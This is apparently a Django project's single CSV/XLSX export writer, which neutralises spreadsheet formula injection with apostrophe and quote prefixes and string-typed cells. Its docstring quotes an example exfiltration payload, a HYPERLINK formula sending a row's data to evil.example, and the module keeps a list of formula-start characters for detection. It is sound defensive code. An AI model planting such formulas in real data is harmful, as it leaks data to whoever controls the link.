"""The one writer of spreadsheet downloads (CSV and XLSX) for the whole project.

A spreadsheet program runs a text cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (tab and carriage return are stripped first by some of them): an
organisation named ``=HYPERLINK("http://evil.example/?"&B2,"Open")`` would become a
live link that leaks the row to whoever opens the file ("CSV injection", OWASP).
Every export of the project writes through this module, so the rule holds in one
place:

- CSV: a text cell that starts with one of those characters gets a leading
  apostrophe (OWASP's advice); text cells are quoted, numbers are not.
- XLSX: every text cell is written as a string cell, never as a formula; a cell
  that starts with one of those characters also gets Excel's "quote prefix", so
  that editing it in Excel does not turn it into a formula either. The text
  itself is kept exactly.
- Numbers (also negative ones), dates, times and booleans stay real numbers,
  dates and booleans; only text is neutralised.

It lives in ``accounts``, the lowest app, so that every app's exporter may import it.
``ImportExportCSV``/``ImportExportXLSX`` route django-import-export's admin
exports through the same writer (``EXPORT_FORMATS`` in the settings).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.http import content_disposition_header
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
FORMATS = tuple(CONTENT_TYPES)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The attribute the writer sets on its responses (tests check every export has it).
MARK = "nzr_export_writer"
_SHEET_TITLE_BAD = re.compile(r"[\[\]:*?/\\]")


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet program read this text as the start of a formula?"""
    return text.startswith(FORMULA_START)


def neutralise(text: str) -> str:
    """The text as a CSV cell: prefixed with ' when it would start a formula."""
    return "'" + text if is_formula_like(text) else text


def _plain(value):
    """A cell value as a number, date, boolean or text (``None`` becomes empty text).

    Lazy translations become text; aware datetimes become local time without a time
    zone (Excel has none); anything else unknown becomes its text.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | date | time):
        if isinstance(value, datetime) and timezone.is_aware(value):
            return timezone.localtime(value).replace(tzinfo=None)
        return value
    if isinstance(value, Promise):
        return str(value)
    return value if isinstance(value, str) else str(value)


def _csv_cell(value):
    value = _plain(value)
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, bool):
        return str(value)  # bool is an int: it would go unquoted as True
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date | time):
        return value.isoformat()
    return value


def csv_bytes(headers: Sequence, rows: Iterable[Sequence]) -> bytes:
    """UTF-8 CSV with a byte-order mark (so spreadsheet programs read accents right)."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([_csv_cell(h) for h in headers])
    for row in rows:
        writer.writerow([_csv_cell(v) for v in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _xlsx_cell(sheet, value) -> WriteOnlyCell:
    value = _plain(value)
    if not isinstance(value, str):
        return WriteOnlyCell(sheet, value=value)
    # Control characters XML cannot hold would make openpyxl refuse the whole file.
    text = ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value)
    cell = WriteOnlyCell(sheet, value=None)
    cell._value = text
    cell.data_type = "s"  # a string, never a formula, whatever it starts with
    if is_formula_like(text):
        cell.quotePrefix = True
    return cell


def _sheet_title(title) -> str:
    return _SHEET_TITLE_BAD.sub(" ", str(title or "Sheet")).strip()[:31] or "Sheet"


def xlsx_bytes(headers: Sequence, rows: Iterable[Sequence], title: str = "") -> bytes:
    """An XLSX workbook of one sheet: the header row, then the rows."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(_sheet_title(title))
    sheet.append([_xlsx_cell(sheet, h) for h in headers])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def render(fmt: str, headers: Sequence, rows: Iterable[Sequence], title: str = "") -> bytes:
    """The file's bytes in ``fmt`` (one of ``FORMATS``)."""
    if fmt == "csv":
        return csv_bytes(headers, rows)
    if fmt == "xlsx":
        return xlsx_bytes(headers, rows, title)
    raise ValueError(f"unknown export format {fmt!r}")


def download(
    fmt: str, headers: Sequence, rows: Iterable[Sequence], filename: str, title: str = ""
) -> HttpResponse:
    """The file as an attachment named ``filename``, marked as made by this writer."""
    response = HttpResponse(render(fmt, headers, rows, title), content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = content_disposition_header(True, filename)
    setattr(response, MARK, fmt)
    return response


def made_by_writer(response) -> bool:
    """Did this module write the response (for the tests that check every export)?"""
    return getattr(response, MARK, None) in FORMATS


# --- django-import-export -------------------------------------------------------------


def _dataset_rows(dataset):
    return [list(row) for row in dataset]


class ImportExportCSV(base_formats.CSV):
    """django-import-export's CSV, written by this module (formulas neutralised)."""

    def export_data(self, dataset, **kwargs):
        return csv_bytes(dataset.headers or [], _dataset_rows(dataset)).decode("utf-8")


class ImportExportXLSX(base_formats.XLSX):
    """django-import-export's XLSX, written by this module (text cells are strings)."""

    def export_data(self, dataset, **kwargs):
        return xlsx_bytes(dataset.headers or [], _dataset_rows(dataset), dataset.title or "")


ADMIN_EXPORT_FORMATS = [ImportExportCSV, ImportExportXLSX]
